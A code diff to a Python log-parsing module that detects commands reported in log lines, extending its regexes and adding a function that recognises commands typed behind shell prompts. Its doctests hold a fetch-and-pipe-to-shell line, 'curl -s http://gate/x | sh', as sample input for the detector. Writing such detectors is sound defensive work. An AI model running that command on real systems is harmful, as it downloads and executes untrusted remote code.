@@ -19,13 +19,14 @@ from .weblog import METHODS, WebRequest
 _SAID = re.compile(r"(?:^|(?<=[\s\"'\[(|:]))(?<!-X )(?<!--request )(?<!Method )([A-Z]{3,9}) ((?:https?://[^\s\"'/]{1,260})?/[^\s\"]{0,8000})\"?(?:[ ,:>=-]{1,4}HTTP/\d(?:\.\d)?\"?)?(?:[ ,:>=-]{1,4}(?:status[=: ]{1,2})?([1-5]\d\d)(?![\w.]))?")
 #: In lower case: a search for words of either case looks at every place.
 _SAID_COMMAND = re.compile(r"(?:execut(?:ed|ing|e)|exec|ran|run|running|spawn(?:ed|ing)?|start(?:ed|ing)?|launch(?:ed|ing)?|invok(?:ed|ing|e)|subprocess|command|cmd|commandline|cmdline|shell|args|input)"
-                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
+                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*"
+                           r"(?: (?:accepted|received|queued|dispatched|authorized|started|\d{1,7}))?(?: (?:by|for|from|on) [^\s:]{1,60}(?=\s?(?::|->|=>) ))?(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
 #: One of these stands in all of them: to look for each costs less than to search for all.
 _WORDS_FOR_ACTS = ("exec", "run", "ran", "spawn", "start", "launch", "invok", "subprocess", "command", "cmd", "shell", "args", "input")
 #: No word for an act stands behind these: they are another word's, a name's or a page's.
 _BEFORE_SAID = re.compile(r"[\w.?&'-]")
 #: Behind another word these bid somebody to run something.
-_BIDDING = re.compile(r"(?:run|execute|invoke)\b")
+_BIDDING = re.compile(r"(?<!about to )(?:run|execute|invoke)\b")
 _SAID_REACH = 400
 #: So many places are looked at where one of these may begin.
 SAID_MAX = 6
@@ -70,7 +71,8 @@ def command_told(text: str) -> Optional[Told]:
         return None
     for said in islice((said for said in _SAID_COMMAND.finditer(head) if _is_word_for_act(head, said.start())), SAID_MAX):
         bare = None if _is_of_other(text, said.start()) or _is_given(text, said.start()) else certain(value_from(text, said.end()))
-        if bare is not None and (said[1] or is_plain(bare) or text[said.end():said.end() + 1] in _OPENING and has_shell_sign(bare.value)):
+        opening = text[said.end():said.end() + 1]
+        if bare is not None and (said[1] or is_plain(bare) or opening in _OF_CODE or opening in _OPENING and has_shell_sign(bare.value)):
             return said.start(), bare
     return None
 
@@ -104,10 +106,10 @@ def _is_of_other(text: str, start: int) -> bool:
 
 
 #: What members are called that hold an application's own words.
-MESSAGES = ("message", "msg", "text")
+MESSAGES = ("message", "msg", "text", "eventmessage", "log", "description")
 _NAME_BEFORE = re.compile(r"([\w.-]{1,60})=\Z")
-#: Signs that open a value in a sentence.
-_OPENING = frozenset("\"'`[")
+#: Signs that open a value in a sentence, and those that open nothing but what a program reads.
+_OPENING, _OF_CODE = frozenset("\"'`["), frozenset("`")
 #: Where a value in quotes ends, though such quotes may stand in it: the line does, or goes on in its own words.
 _CLOSING = {sign: re.compile(rf"{sign}(?=\s*(?:\Z|[,;)\]|])| (?:in|on|as|by|for|with|from|at|exit|rc|took|returned|user|pid|\(|\w+=))") for sign in "\"'`"}
 _CLOSING["["] = re.compile(r"\](?=\Z|[\s,;)/.:])")
@@ -192,6 +194,31 @@ _PROMPTS = frozenset("+$>")
 _FREE_MAX = 24
 _PROGRAM_NAMED = re.compile(r"\"?(?:[A-Z][a-z]{2,12}-[A-Z]\w{2,60}(?=[\s;|(])|([A-Za-z][\w.+-]{1,40})(?=[\s\"])|[A-Za-z]:\\|/(?:usr/)?(?:local/)?s?bin/|/(?:var/)?tmp/|/dev/shm/|[.&]? ?\(|\$[\w:{]{1,60}\s?[+=.\[(|]|\[[A-Za-z]|\.\\)")
 _CELLS = frozenset("|;,\t")
+
+
+def command_prompted(text: str) -> Optional[Told]:
+    """A command that a terminal showed behind its prompt, which a line may begin with or hold behind a time.
+
+    >>> command_prompted("2031-03-01T10:11:12Z sh-4.2$ curl -s http://gate/x | sh")[1].programs, command_prompted("db7 C:\\jobs>net stop a")[1].value
+    (('curl', 'sh'), 'net stop a')
+    >>> command_prompted("login failed for ann@db7 /tmp % curl -s http://gate/x")
+    """
+    head = text[:_PROMPT_REACH]
+    if not any(sign in head for sign in ("$ ", "# ", " % ", "PS", ":\\")):
+        return None
+    for prompt in islice(_PROMPTED.finditer(head), SAID_MAX):
+        start = prompt.end()
+        if "=" in text[:prompt.start()] and not prompt[1] or text.count('"', 0, start) % 2 or is_strangers(text, prompt.start()) or _is_given(text, prompt.start()):
+            continue
+        bare = bare_of(text[start:start + LINE_REACH].strip())
+        if bare is not None and bare.kind == COMMAND and (prompt[1] or " " in bare.value):
+            return prompt.start(), bare
+    return None
+
+
+_PROMPT_REACH = 300
+#: What shells print before what is typed: with a place, a user and a host, which nothing else looks like, or with a name at most.
+_PROMPTED = re.compile(r"(?:\A|(?<=\s))(?:((?:\[[\w.-]{1,80}\]: )?PS(?: (?:[A-Za-z]:\\|~|/)[^>\n]{0,120})?> ?|[A-Za-z]:\\[^<>|\"\n:]{0,120}(?<! )> ?|\[?[\w.-]{1,40}@[\w.-]{1,80}(?:[: ][^\s$#%\]]{0,120})?\]?(?:[$#]| %) )|[\w.-]{0,60}[$#] )(?=\S)")
 
 
 def _cell_from(text: str, start: int, sign: Optional[str]) -> str:
